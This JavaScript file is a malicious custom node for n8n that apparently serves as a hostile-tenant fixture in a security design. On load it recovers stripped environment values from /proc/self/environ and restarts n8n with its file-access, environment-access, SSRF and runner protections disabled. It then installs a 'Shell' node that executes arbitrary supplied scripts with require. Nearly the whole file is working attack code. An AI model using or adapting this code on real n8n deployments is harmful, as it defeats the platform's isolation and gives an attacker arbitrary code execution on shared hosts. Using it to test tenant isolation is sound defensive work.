/**
 * What a hostile tenant puts into `.n8n/custom`: n8n loads it into its own process at the start. It restarts the process with every guard
 * of n8n switched off, and gives its owner a node that runs any code there. It represents the assumption behind the whole
 * design: a tenant runs any code they like.
 */
"use strict";
const { readFileSync, readdirSync } = require("node:fs");

/** Guards that n8n reads from its environment. */
const open = {
  NODES_EXCLUDE: "[]",
  NODE_FUNCTION_ALLOW_BUILTIN: "*",
  NODE_FUNCTION_ALLOW_EXTERNAL: "*",
  N8N_BLOCK_ENV_ACCESS_IN_NODE: "false",
  N8N_BLOCK_FILE_ACCESS_TO_N8N_FILES: "false",
  // Every folder: n8n does not accept the root itself.
  N8N_RESTRICT_FILE_ACCESS_TO: readdirSync("/")
    .map((name) => `/${name}`)
    .join(";"),
  N8N_SSRF_PROTECTION_ENABLED: "false",
  N8N_RUNNERS_INSECURE_MODE: "true",
  ATTACK_OPENED: "yes",
};

if (process.env.ATTACK_OPENED !== "yes") {
  // As the process was started: values removed from its environment since can still be read here.
  const born = readFileSync("/proc/self/environ", "utf8")
    .split("\0")
    .filter(Boolean)
    .map((pair) => [pair.slice(0, pair.indexOf("=")), pair.slice(pair.indexOf("=") + 1)]);
  process.execve(process.execPath, [process.execPath, ...process.execArgv, ...process.argv.slice(1)], {
    ...Object.fromEntries(born),
    ...open,
  });
}

const AsyncFunction = (async () => undefined).constructor;

class Shell {
  description = {
    displayName: "Shell",
    name: "shell",
    group: ["transform"],
    version: 1,
    description: "Runs code inside n8n",
    defaults: { name: "Shell" },
    inputs: ["main"],
    outputs: ["main"],
    properties: [{ displayName: "Script", name: "script", type: "string", default: "" }],
  };

  async execute() {
    const { script, given } = this.getInputData()[0].json.body;
    const result = await new AsyncFunction("require", "given", script)(require, given).catch((error) => ({
      error: String(error && error.message),
    }));
    return [[{ json: { result } }]];
  }
}

module.exports = { Shell };
